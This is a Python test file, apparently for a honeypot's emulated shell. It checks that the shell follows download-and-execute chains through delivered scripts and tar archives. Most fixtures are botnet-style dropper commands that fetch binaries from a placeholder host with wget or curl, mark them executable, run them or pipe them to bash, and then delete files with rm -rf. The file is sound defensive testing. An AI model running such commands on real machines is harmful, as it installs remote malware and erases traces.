# SPDX-License-Identifier: Apache-2.0
"""What waited for a body runs among the files that it had."""

from __future__ import annotations

import io
import tarfile

import pytest
from tests.shell.conftest import make

from mead.shell import Executed, FileWritten, Offer, Shell, ShellLimits

SCRIPT = b"wget http://192.0.2.1/arm7 -O a; chmod +x a; ./a; echo $0 $1 >/tmp/done\n"


@pytest.mark.parametrize(
    "line",
    [
        "cd /tmp; wget http://192.0.2.1/s; sh s 1; rm -f s",
        "cd /tmp; wget http://192.0.2.1/s -O s; chmod 777 s; ./s 1; rm -rf *",
        "mkdir -p /tmp/a/b; cd /tmp/a/b; wget http://192.0.2.1/s; sh ./s 1; cd /; rm -rf /tmp/a",
        "cd /tmp; wget http://192.0.2.1/s -O x; cp x s; rm x; sh s 1; rm s",
        "cd /tmp; wget http://192.0.2.1/s -O x; mv x s; sh s 1; rm s",
    ],
)
def test_a_script_that_was_removed_after_it_ran_is_followed(shell: Shell, line: str) -> None:
    shell.run(line.encode())
    reply = shell.deliver("http://192.0.2.1/s", SCRIPT)
    assert [effect.url for effect in reply.effects if isinstance(effect, Offer)] == ["http://192.0.2.1/arm7"]
    assert shell.run(b"cat /tmp/done").output.endswith(b"s 1\n")
    assert shell.run(b"ls -d /tmp/s /tmp/x /tmp/a/b 2>/dev/null").output == b""
    run = [effect.url for effect in reply.effects if isinstance(effect, Executed)]
    assert run == ["http://192.0.2.1/arm7"]


def test_what_the_script_leaves_stays(shell: Shell) -> None:
    shell.run(b"cd /tmp; wget http://192.0.2.1/s; sh s; rm s")
    shell.deliver("http://192.0.2.1/s", b"echo left > left; mkdir d\n")
    assert shell.run(b"ls /tmp").output == b"d     left\n"


def test_what_is_done_unseen_is_so_again(shell: Shell) -> None:
    shell.run(b"cd /tmp; curl -s http://192.0.2.1/s | bash")
    reply = shell.deliver("http://192.0.2.1/s", b"wget http://192.0.2.1/t; echo x > /tmp/x\n")
    assert [effect.url for effect in reply.effects if isinstance(effect, Offer)] == ["http://192.0.2.1/t"]
    assert shell.run(b"ls /tmp").output == b""


ARCHIVE = "http://192.0.2.1/a.tgz"
INNER = b"wget http://192.0.2.1/inner\n"


def packed(name: str) -> bytes:
    """A tar archive of one script, with the directory that it lies in."""
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w:gz") as archive:
        if "/" in name:
            folder = tarfile.TarInfo(name.partition("/")[0])
            folder.type, folder.mode = tarfile.DIRTYPE, 0o755
            archive.addfile(folder)
        entry = tarfile.TarInfo(name)
        entry.size, entry.mode = len(INNER), 0o755
        archive.addfile(entry, io.BytesIO(INNER))
    return data.getvalue()


@pytest.mark.parametrize("device", ["camera-armv7l", "server-x86_64"])
@pytest.mark.parametrize(
    ("name", "line"),
    [
        ("d/run.sh", f"wget {ARCHIVE}; tar xzf a.tgz; sh d/run.sh"),
        ("d/run.sh", f"wget {ARCHIVE}; tar xzf a.tgz; cd d; ./run.sh"),
        ("d/run.sh", f"wget {ARCHIVE}; tar xzf a.tgz; cd d; chmod +x *; ./run.sh"),
        ("d/run.sh", f"wget {ARCHIVE}; tar xzf a.tgz; rm -rf a.tgz; cd d && ./run.sh"),
        ("d/run.sh", f"wget {ARCHIVE} && tar xzf a.tgz && cd d && ./run.sh && cd .. || exit"),
        ("d/run.sh", f"curl -s {ARCHIVE} | tar xz && cd d && sh run.sh"),
        ("d/run.sh", f"wget -q {ARCHIVE}; tar xf a.tgz; cd d/; nohup ./run.sh > /dev/null 2>&1 &"),
        ("d/run.sh", f"wget -q {ARCHIVE}\ntar xf a.tgz\ncd d\nls\n./run.sh"),
        ("d/run.sh", f"wget -q {ARCHIVE}; tar xf a.tgz; mv d /var/e && sh /var/e/run.sh"),
        ("run.sh", f"wget {ARCHIVE} && tar xzf a.tgz && chmod +x run.sh && ./run.sh"),
        ("run.sh", f"wget {ARCHIVE}; tar xzf a.tgz; cp run.sh x && sh x"),
        ("run.sh", f"curl -s {ARCHIVE} | tar xz; sh run.sh"),
    ],
)
def test_an_archive_that_was_fetched_is_taken_apart_and_followed(device: str, name: str, line: str) -> None:
    shell = make(device)
    shell.run(b"cd /tmp")
    replies = [shell.run(part.encode()) for part in line.split("\n")]
    before = [effect.url for reply in replies for effect in reply.effects if isinstance(effect, Offer)]
    reply = shell.deliver(ARCHIVE, packed(name))
    after = [effect for effect in reply.effects if isinstance(effect, Offer)]
    written = [effect.data for effect in reply.effects if isinstance(effect, FileWritten)]
    assert before == [ARCHIVE]
    assert [(offer.url, offer.depth) for offer in after] == [("http://192.0.2.1/inner", 1)]
    assert INNER in written


def test_what_follows_a_command_that_waited_is_told(shell: Shell) -> None:
    first = shell.run(f"cd /tmp; wget {ARCHIVE}; tar xzf a.tgz; cd d && ./run.sh".encode())
    assert not [effect for effect in first.effects if isinstance(effect, Executed)]
    reply = shell.deliver(ARCHIVE, packed("d/run.sh"))
    assert [effect.path for effect in reply.effects if isinstance(effect, Executed)] == ["/tmp/d/run.sh"]


def test_what_stands_behind_a_failed_command_waits_only_for_bodies(shell: Shell) -> None:
    """Nothing is awaited, or it does not bring what is missing: then the rest is not run."""
    shell.run(b"cd /nowhere && wget http://192.0.2.1/never")
    shell.run(f"cd /tmp; wget {ARCHIVE}; tar xzf a.tgz; cd other && wget http://192.0.2.1/not".encode())
    reply = shell.deliver(ARCHIVE, packed("d/run.sh"))
    assert not [effect for effect in reply.effects if isinstance(effect, Offer)]
    assert shell.run(b"pwd").output == b"/tmp\n"


def test_archives_that_bring_each_other_end(shell: Shell) -> None:
    waiting, seen = ["http://192.0.2.1/0"], 0
    shell.run(b"wget http://192.0.2.1/0 -O a.tgz && tar xzf a.tgz && cd d && ./run.sh")
    while waiting:
        seen += 1
        data = io.BytesIO()
        text = f"wget http://192.0.2.1/{seen} -O a.tgz && tar xzf a.tgz && cd d && ./run.sh\n".encode()
        with tarfile.open(fileobj=data, mode="w:gz") as archive:
            entry = tarfile.TarInfo("d/run.sh")
            entry.size, entry.mode = len(text), 0o755
            archive.addfile(entry, io.BytesIO(text))
        reply = shell.deliver(waiting.pop(), data.getvalue())
        waiting += [effect.url for effect in reply.effects if isinstance(effect, Offer)]
        assert seen < 100
    assert 1 < seen <= ShellLimits().follow_depth + 1
